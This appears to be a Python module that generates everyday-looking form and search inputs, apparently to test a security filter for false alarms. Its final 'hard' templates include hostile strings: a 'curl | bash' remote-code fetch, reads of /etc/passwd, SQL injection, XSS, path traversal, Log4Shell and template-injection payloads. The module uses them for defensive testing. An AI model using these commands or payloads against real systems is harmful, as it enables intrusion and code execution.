"""Kinds of the sixth wave: what people type into boxes, by somebody who had read none of the engine. «x» are slots."""
import re
from registry import KINDS, kind

SLOTS = {'n': lambda m: m.noun(), 'v': lambda m: m.verb(), 'a': lambda m: m.adj(), 'i': lambda m: m.num(1, 999), 'name': lambda m: m.name(), 'p': lambda m: m.phrase(),
        's': lambda m: m.sentence(), 'var': lambda m: m.var(), 'id': lambda m: m.ident(), 'url': lambda m: m.url(), 'host': lambda m: m.host(), 'hex': lambda m: m.hex(8),
        'uuid': lambda m: m.uuid(), 'date': lambda m: m.date(), 'mail': lambda m: m.mail(), 'slug': lambda m: m.slug(), 'ip': lambda m: m.ip(), 't': lambda m: m.title(),
        'N': lambda m: m.noun().title(), 'A': lambda m: m.adj().title(), 'city': lambda m: m.city(), 'r': lambda m: m.real(), 'path': lambda m: m.path(), 'co': lambda m: m.company(),
        'iso': lambda m: m.iso(), 'phone': lambda m: m.phone()}


def say(m, *texts):
    """One of the texts with its slots filled"""
    return re.sub('«(\\w+)»', lambda x: str(SLOTS[x[1]](m)), m.pick(*texts))


def searched(m, text):
    return m.get(m.pick('/search', '/suche', '/en/find', '/', '/catalog/%s' % m.noun(), '/api/suggest'), m.pick([('q', text)], [('query', text), ('page', m.num(1, 9))],
            [('s', text)], [('keywords', text), ('cat', m.noun()), ('sort', 'relevance')], [('term', text), ('lang', m.lang())]))


def posted(m, text):
    which = m.num(0, 5)
    if which == 0:
        return m.form('/%s/%d/comments' % (m.noun(), m.num()), [('author', m.name()), ('email', m.mail()), ('comment', text), ('submit', 'Post')])
    if which == 1:
        return m.json('/api/v1/%s/messages' % m.noun(), {'text': text, 'client_msg_id': m.uuid(), 'channel': m.hex(9)})
    if which == 2:
        return m.multipart('/%s/new' % m.noun(), [('subject', m.title()), ('body', text), ('token', m.alnum(32))])
    if which == 3:
        return m.json('/graphql', {'operationName': 'Add', 'query': 'mutation Add($input: AddInput!) { add(input: $input) { node { id body } errors { message } } }',
                'variables': {'input': {'body': text, 'subjectId': m.b64(12)}}})
    if which == 4:
        return m.form('/tickets', [('utf8', '✓'), ('authenticity_token', m.b64(32)), ('ticket[subject]', m.phrase()), ('ticket[description]', text), ('commit', 'Save')])
    return m.json('/rest/notes/%d' % m.num(), {'id': m.num(), 'note': {'content': text, 'modified': m.now}, 'tags': [m.noun()]}, method='PUT')


def words(name, carry, texts, hard=False):
    texts = [t for t in texts.split('\n') if t]
    kind('sixth ' + name, hard)(lambda m: carry(m, say(m, *texts)))


words('search for menu entries', searched, '''Menu | Sort | Find | More
head | tail | top
cut | copy | paste
File | Open | Print
Home | Shop | Find | Join | Login
sort | less | more
«n» | «n» | find | who
tee | golf | club
date | time | «n»
cat | dog | mouse
''')
words('search for tags of documentation', searched, '''<cfoutput> «n»
<cfquery> tutorial
what does <iframe> do
<script> tag position
<?xml version
<jsp:include> vs <%@ include
html <b> or <strong>
<template> element
difference <link> <style>
<img> alt text
<svg> in <img>
use <form> without action
''')
words('search for commands by name', searched, '''ping host
ping «host»
bash; cron
what does ls -l show
grep or awk
cron vs systemd timer
who is online
cat food «n»
less more head tail
nslookup vs dig
id card «n»
wget or curl
sleep tracker; alarm
sh vs bash
kill process windows
''')
words('search of sysadmins', searched, '''nginx 502 bad gateway upstream sent too big header
permission denied (publickey)
/var/log/syslog too large
/etc/hosts not working windows
apt-get update 404 not found
E: Unable to locate package «n»
systemctl status failed «n»
ssh -L example
iptables vs nftables
/etc/fstab nofail
crontab @reboot
error: 0x800700«i»
chmod 755 vs 777
docker: command not found
Can't connect to local MySQL server through socket '/var/run/mysqld/mysqld.sock' (2)
ORA-00942: table or view does not exist
ORA-01722 invalid number
''')
words('search of web developers', searched, '''js array.map is not a function
how to escape ' in sql
console.log(«n»)
document.getElementById returns null
css :not(.«n»)
$(document).ready vs window.onload
addEventListener('click') twice
php $_POST empty
php isset($_GET['«n»'])
${variable} in string
typescript Record<string, «N»>
react useEffect(() => {}, [])
flex: 1 1 auto
&nbsp; vs &#160;
window.location.href redirect
eval() is evil
JSON.parse unexpected token < in JSON at position 0
onclick="" vs onclick={}
localStorage.setItem("«n»")
''')
words('search of pythonists', searched, '''python print('hello')
print("hello world")
if __name__ == '__main__'
os.path.join vs pathlib
import os not found
lambda x: x+1
KeyError: '«n»'
list(map(int, input().split()))
__init__.py empty
self.«n» = «n»
open('«n».txt', 'r')
subprocess.run shell=True
requests.get verify=False
{{ «n» }} jinja
f"{«n»!r}"
''')
words('search of database people', searched, '''left join vs inner join
select distinct on «n»
mysql order by rand() slow
group by having count > 1
union vs union all
sql server 'sa' login failed
drop table if exists
«n» where date between
insert into select
postgres sleep function
update «n» set null
delete duplicate rows
concat('a', «n»)
where 1=1 meaning
like '%«n»%' performance
information_schema tables
xp_cmdshell disabled
''')
words('search of redis and mongo', searched, '''redis EVAL script
EVAL "return 1" 0
redis.call('SET', KEYS[1])
mongodb $where vs $expr
$gt $lt query
$ne null
db.«n».find()
EVALSHA NOSCRIPT
redis-cli --eval
aggregate $lookup
''')
words('search with apostrophes', searched, '''O'rly?
O'Brien «n»
'80s music
rock 'n' roll
l'«n» d'or
'«n»'
guns n' roses
the '«n»' of «city»
''til dawn
qu'est-ce que c'est
what's 'or' in french
d'or et d'argent
'tis the season
dell'«n»
5' 10" «n»
--'«n»--
''')
words('search with maths', searched, '''x=1 or x=2
1+1=2
2^10
sin(x)/x limit
(a+b)^2 = a^2 + 2ab + b^2
if a=b and b=c
f(x)=1/(1-x)
log(100)/log(10)
3 < x < 5
100 / 7 * «i»
50% of «i»
n! / (k!(n-k)!)
∫ sin(x) dx
a || b
∀x ∃y
''')
words('search for films and songs', searched, '''Select All (band)
Drop Dead Gorgeous
Union Square; «n»
Gone with the wind -- part 2
(I Can't Get No) Satisfaction
Who Let the Dogs Out?
Exit Through the Gift Shop
Se7en; Alien
Kill Bill & kill bill 2
Execute Order 66
<3 songs
Whoami? (film)
$ave me
Sleep (1963)
System of a Down - Chop Suey!
Cat People/Dog People
...And Justice for All
Shell; or ghost in the shell
Table for two and one = fun
''')
words('search in Arabic and Hebrew', searched, '''كيفية تحضير القهوة العربية؟
«n» في الرياض
أسعار "الذهب" اليوم
من هو؛ وماذا فعل
ו«n» או «n»
ארוחת צהריים ב־«city»
צה"ל
ד"ר כהן; רופא
فروش خانه در تهران
«i»٪ تخفیف
کتاب «n» دست دوم
دانلود آهنگ جدید 1402
''')
words('search in Chinese and Japanese', searched, '''怎么用「select」语句
北京到上海高铁|时刻表
手机 价格<«i»
「«n»」の使い方
ラーメン 新宿 ; 深夜
東京駅から〜まで
'引用符' とは
淘宝 & 京东
天气预报(北京)
C言語 printf("")
正規表現 ^$ 意味
《红楼梦》第一回
''')
words('search in Korean, Thai and Vietnamese', searched, '''서울 맛집 추천 & 카페
파이썬 print('안녕')
«n» 가격 비교 | 최저가
วิธีทำต้มยำกุ้ง
โรงแรม «city» ราคาถูก
cách nấu phở bò; ngon
giá vàng hôm nay 'SJC'
tải nhạc mp3 "miễn phí"
ដំណឹងថ្មី
ကားဈေးနှုန်း
''')
words('search in Slavic languages', searched, '''купить «n»; доставка
что такое SQL-инъекция
как удалить папку rm
погода в «city» на 10 дней
«n» или «n»
ключ на 12' и 14'
п'ять і сім'я
здоров'я «n»
żółty «n» & zielony
jak przyciąć drzewo
č.p. 12; ulice
otázky a odpovědi = test
''')
words('search in Romance languages', searched, '''l'heure d'été 2026
aujourd'hui c'est «n»
où acheter «n» d'occasion ?
s'il n'y a pas d'«n»
dove c'è un po' d'acqua
«n» dell'anno '99
¿qué es "select"?
and or y o «n»
união & força
ordem por data
dacă n-ai «n»
l'union fait la force
''')
words('search in Indian languages', searched, '''हिंदी में «n» क्या है?
दिल्ली से मुंबई ट्रेन | समय
தமிழ் பாடல்கள் & படங்கள்
బంగారం ధర (నేడు)
বাংলা কবিতা; রবীন্দ্রনাথ
ਪੰਜਾਬੀ ਗੀਤ
മലയാളം «n»
اردو شاعری "غالب"
''')
words('chat about meeting', posted, '''meet at 2:00; bring drinks
call at «i»:30; or text; «name»
brb; lunch || coffee?
at 9 && at 5 I'm free
who | what | when?
and then; sleep 10 hours
let's go; date & time: «date»
ok `later` then
«n»: yes; «n»: no; id: who knows
bring: «n»; «n»; cat; dog & kids
meet @ «city»; find «name»; wait
''')
words('chat with paths', posted, '''look in ../.. for it
it's in ../../«n»/«id»
cd .. and again cd ..
the file is at /etc/passwd on every Linux
put it in /home/«n»/.ssh please
C:\\Users\\«n»\\AppData\\Local\\Temp is full
\\\\server\\share\\«n»
~/Downloads/«id».zip doesn't open
see /var/log/nginx/error.log, last line
in src/main/resources there's classpath:/db/migration
file:///C:/Users/«n»/Desktop/«id».html won't load
..\\..\\«N»\\«id».csproj not found
the config is under /proc/sys/vm, try swappiness
./«id» doesn't start, ../«id» does
''')
words('chat with quoted commands', posted, '''just run `npm install` again
did you try `git push --force`?
I typed "ls" and it showed nothing
type exit and press enter; then whoami should say root
use `docker ps` to see it
run "ipconfig /all" and send me the output
sudo make me a sandwich
he said 'ping me' not `ping me`
with "netstat -an" you can see port 80
`kubectl get pods` says CrashLoopBackOff
then reboot; if it still fails, reboot again
press Win+R, type cmd and press Enter
$ is the prompt, don't type it
try `curl localhost:8080/health`, what's the answer?
''')
words('chat with code names', posted, '''the getUser() call is slow
why is foo(bar) null?
it should be a<b not b<a
I set x=1;y=2 and it works
that's an if(true) bug
{ "«n»": «i» } is the answer I get
it prints [object Object]
use «var».«var»() instead
O(n log n) > O(n^2)
NullPointerException in «N».java:«i» again
<N> pixels or <«n»>?
it's undefined, not null
$«var» isn't defined
the #«id» div needs a z-index
std::vector<int> or int[]?
''')
words('article about linux', posted, '''The file /etc/passwd lists the accounts, /etc/shadow their passwords. «s»
Every process has a directory in /proc: /proc/self/environ holds its environment. «s»
/etc/passwd is readable by all; try less /etc/passwd. «s»
Logs are in /var/log, programs in /usr/bin and /bin/sh is a link to dash. «s»
To see your name, type id. To see the date, type date. «s»
Use | to join commands; > writes to a file, as in ls > list.txt. «s»
The prompt ends in $ for users and # for root. «s»
In vi, type :wq! to save and :q! to leave. «s»
With chmod +x a script can be run as ./script.sh; «s»
''')
words('ticket with an error message', posted, '''You have an error in your SQL syntax; check the manual near '«n»' at line 1. «s»
Warning: include(«n».php): failed to open stream: No such file or directory in /var/www/html/«n».php on line «i»
Uncaught TypeError: Cannot read properties of undefined (reading '«n»') at «id».js:«i»:«i»
ERROR: duplicate key value violates unique constraint "«var»_pkey" DETAIL: Key (id)=(«i») already exists.
java.lang.NullPointerException: null
curl: (60) SSL certificate problem: unable to get local issuer certificate
Access to fetch at 'http://localhost:3000' from origin 'https://«host»' has been blocked by CORS policy
bash: «n»: command not found
sh: 1: «n»: not found
/bin/sh: can't access tty; job control turned off
ls: cannot access '«n»': No such file or directory
Error: ENOENT: no such file or directory, open '/app/config/«n».json'
Msg 102, Level 15, State 1, Line «i» Incorrect syntax near '«n»'.
''')
words('ticket with a stack trace', posted, '''Traceback (most recent call last):  File "/srv/app/«n».py", line «i», in <module>    «var»()  NameError: name '«var»' is not defined
at «N».«var»(«N».java:«i») at java.base/java.lang.Thread.run(Thread.java:833) Caused by: java.sql.SQLException: Column '«n»' not found.
System.NullReferenceException: Object reference not set to an instance of an object. at «N».«A»() in C:\\build\\«N».cs:line «i»
PHP Fatal error: Uncaught Error: Call to undefined function «var»() in /var/www/«n».php:«i» Stack trace: #0 {main} thrown
#0 0x00007f«hex» in raise () from /lib64/libc.so.6 #1 «var» (argc=2) at «n».c:«i»
ActiveRecord::StatementInvalid (PG::UndefinedColumn: ERROR: column "«n»" does not exist LINE 1: SELECT «n» FROM «n»s)
goroutine 1 [running]: main.main() /go/src/«n»/main.go:«i» +0x1d exit status 2
''')
words('question of beginners', posted, '''In SQL, what does SELECT * FROM mean? My book says it's for all columns.
How do I write if (a > b) { } else { } in Java?
My teacher says print("«n»") but I get an error.
is <br> or <br/> right in a page?
What's the difference between = and == and ===?
When I write echo $name; it's empty. Why?
Is it WHERE name = 'Anna' or name == 'Anna'?
Can I put a <div> in a <p>? «s»
why does 'a' + 1 give 'a1'?
How can I sort by «n» and then by «n»?
''')
words('price list in a message', posted, '''1x «n» = 5€; 2x «n» = «i»€; and 3 or 4 = «i»€
S/M/L/XL: 10/12/14/16 -- 20% off; code '«N»«i»'
«n» (a) = «i», «n» (b) = «i', total = a+b
$«i».99 | $«i».50 | free
«i» AND «i» = sold; 12 OR 14 = left
order #«i»; paid; id=«i»; thanks -- «name»
'''.replace("«i',", "«i»,"))
words('wishes and signatures', posted, '''Best regards, «name» -- «co» -- Tel: «phone» <«mail»>
-- «name» | «co» | «url»
Sent from my iPhone; sorry for typos
/s/ «name»
~«name»~ *hugs* <3
«name» (she/her) || «co»
«name», M.D., Ph.D. / Union Hospital; Order of Merit
''')
words('medical note', posted, '''Pt c/o HA x3d; denies N/V/D. BP 140/90, HR>100, SpO2<95%. A/P: r/o MI; admit & monitor; f/u PRN.
Rx: ibuprofen 400 mg 1-0-1 (max. 3x/d); drop dose if GFR<30 or age>75
Dx: I10; E11.9 -- stable; select labs: Na=138, K=4.1, Cl=«i»
Z.n. Sturz; V.a. Fraktur li. Handgelenk; Rö: o.B. -> Gips, Kontrolle in 7 d
Allergies: penicillin = rash; latex = none; "sulfa drugs"?
Pat. klagt über Schmerzen (VAS 7/10) und «n»; nimmt ASS 100 1x1, kein O2
sleep(8h), eats well; benchmark: MMSE 28/30
''')
words('legal text', posted, '''§ 1 Abs. 2 Nr. 3 lit. a) i.V.m. Art. 6(1)(f) DSGVO; «s»
Whereas the Parties (the "«N»") and/or their successors; now, therefore, it is agreed: «s»
Smith v. O'Brien, 123 U.S. 456 (2001); cf. id. at «i»; see also 42 U.S.C. § 1983
The Union shall, where «n» = nil, execute the order; or else it drops the claim
L. n° 2004-575 du 21 juin 2004, art. 6-I-2° ; v. aussi l'arrêté d'application
(a) «s»; (b) «s»; and/or (c) «s»
''')
words('names with signs', posted, '''«name» d'«N»
Sean O'Brien & Mary O'Neill
Ng'ang'a wa Thiong'o
D'Angelo Russell; Ja'Marr Chase
Hawai'i / Ka'ū / Lāna'i
N'Golo K., 'Big' Al
Mc'Kenzie--Smith
Jean-Luc "Jack" O'Hara (Jr.)
‘Abd al-‘Azīz
X Æ A-12
Null, Christopher
Select, True & Sons
Robert'); the boy
'''.replace("Robert'); the boy\n", ''))
words('passages of books', posted, '''"Why?" -- 'Because,' she said, 'I can't; or won't.' «s»
'Or else,' he cried, 'the union's lost!' -- and so it was: «s»
Chapter 1=the «n». 'Select your weapon,' said the «n»; «s»
He'd drop the table; she'd sleep. 'And 1 and 1 are 2?' -- 'Like hell!' «s»
«Où est-il ?» -- «Là-bas; sous l'arbre.» «s»
— Кто там? — спросил он; — «n». «s»
'''.replace('«Où est-il ?»', '“Où est-il ?”').replace('«Là-bas; sous l\'arbre.»', '“Là-bas; sous l’arbre.”'))
words('merge fields of mails', posted, '''Dear {{first_name}}, your «n» is ready. {{unsubscribe}}
Hi {{ contact.FIRSTNAME | default: "friend" }}, «s»
Hello *|FNAME|*, *|IF:«N»|* «s» *|END:IF|*
Dear %%First_Name%%, «s» %%unsubscribe_link%%
Sehr geehrte/r [[Anrede]] [[Nachname]], «s»
Hallo ##NAME##, Ihr Termin: ##DATUM##
Hi ${firstName}, your code is ${code}.
Dear <<First Name>> <<Last Name>>, re: <<Matter>>
Hello {$name}, you owe {$amount}
Hi {user.name|there}! {{#if vip}}Thanks!{{/if}}
Cher {{ customer.first_name }} {{ customer.last_name }}, {% if order.paid %}merci{% endif %}
Hi {FIRST_NAME}, [unsubscribe]
Dear <%name%>, your balance is <%amount%>
''')
words('cron and schedules', posted, '''Backup: 0 3 * * * and 30 4 * * 1-5
*/5 * * * * «id»
every 2nd Mon; or 1st & 3rd Fri
RRULE:FREQ=WEEKLY;BYDAY=MO,WE;COUNT=«i»
Mo-Fr 9:00-17:00; Sa 10:00-14:00; PH off
@daily «n»; @reboot «n»
''')
words('opening hours and addresses', posted, '''Mo-Fr 08:00-12:00,13:00-17:30; Sa off; "by appointment"
c/o «name»; «i» Union St; Unit #«i»
P.O. Box «i»; Sort: 20-00-00; Acct: «i»
1/2 «n» St., Apt. B & C
Hs.Nr. «i»/2. OG; 'Hinterhaus'
''')
words('recipe of a cook', posted, '''1/2 c. sugar; 3/4 tsp. salt; 2 eggs -- mix & sleep 1 hr; 350°F
«i»g Mehl, 2 EL Öl | 1 TL Salz; 20 min. @ 180°
cut; sort; wash & chop «n»; heat > 5 min; then let stand
"Mole"; 'pico de gallo'; and/or «n» (hot!)
''')
words('sports and scores', posted, '''«city» 3:2 («i»:«i») «city»; att.: «i»
Ali def. Liston KO1; or was it TKO7?
1-0; 2-0; 2-1 -- and 3=3 after OT
6-4, 3-6, 7-6(5); 1h 55' -- ace & break
''')
words('crypto and bank lines', posted, '''IBAN DE89 3704 0044 0532 0130 00; BIC COBADEFFXXX; ref '«N»/«i»'
1 BTC = $«i»k; or 0x«hex»«hex»«hex»«hex»«hex»
SEPA+/-; VAT@20%; net=«i»; gross=«i»
''')
words('ascii pictures and smileys', posted, '''(>'-')> <('-'<) ^('-')^ v('-')v
¯\\_(ツ)_/¯ || (╯°□°)╯︵ ┻━┻
<(^_^)> ;-) :-| :'-( >:-> }:-)
/\\_/\\ ( o.o ) > ^ <
-->--@ '--,--'-- @}-;-'---
d(^_^)b ;; m(_ _)m
||| «n» ||| --- === --- ***
''')
words('instructions for staff', posted, '''1) open «n»; 2) select all; 3) cut & paste into «n»; 4) print; 5) exit
Delete from list where blank; update the sheet; set status = done
Drop off at desk; sort by name; find & replace "«n»" with '«n»'
Insert card into slot; wait for beep; if light=red then eject
Execute plan B: call «phone»; wait; then shutdown -- not reboot!
Log in as admin; click «N» > «N» > "«t»"; type 1 or 2
''')
words('slash commands and bots', posted, '''/remind me "«s»" at 5pm; or tomorrow
!ping
!exec help
/giphy cat & mouse
/invite @«n»; /kick @«n»
.help | .ping | .who
$0 -cancel
$1 - «n» / $2 - «n»
?tag «n»
!eval 1+1
/me sleeps; brb
''')
words('commands as a whole', searched, '''rm -rf node_modules
find . -name '*.log' -delete
sudo apt-get install «n» && sudo reboot
cat /etc/passwd | grep root
curl -s «url» | bash
git log --oneline | head -n «i»
ls -la /home/«n»
chmod -R 777 /var/www; chown www-data
ps aux | grep «n» | awk '{print $2}' | xargs kill -9
for i in 1 2 3; do echo $i; done
''', hard=True)
words('tutorial about attacks', posted, '''An SQL injection looks like ' OR '1'='1' -- and works when «s»
To test for XSS people type <script>alert(1)</script> into the box. «s»
A path like ../../../../etc/passwd should be refused. «s»
Log4Shell used ${jndi:ldap://«host»/a} in headers. «s»
{{7*7}} showing 49 means SSTI. «s»
''', hard=True)
words('statements as a whole', posted, '''SELECT «var», COUNT(*) FROM «n»s WHERE «var» = '«n»' GROUP BY «var» HAVING COUNT(*) > 1;
ALTER TABLE «n» ADD COLUMN «var» VARCHAR(255) DEFAULT 'x';
DELETE FROM «n» WHERE id IN (SELECT id FROM «n» WHERE «var» IS NULL);
<?php foreach ($«n»s as $«n») { echo $«n»['«var»']; } ?>
const «var» = await fetch('/api/«n»').then(r => r.json()); console.log(«var»);
import os; print(os.environ['«N»'])
#!/bin/bash
''', hard=True)
assert sum(name.startswith('sixth') for name in KINDS) >= 40
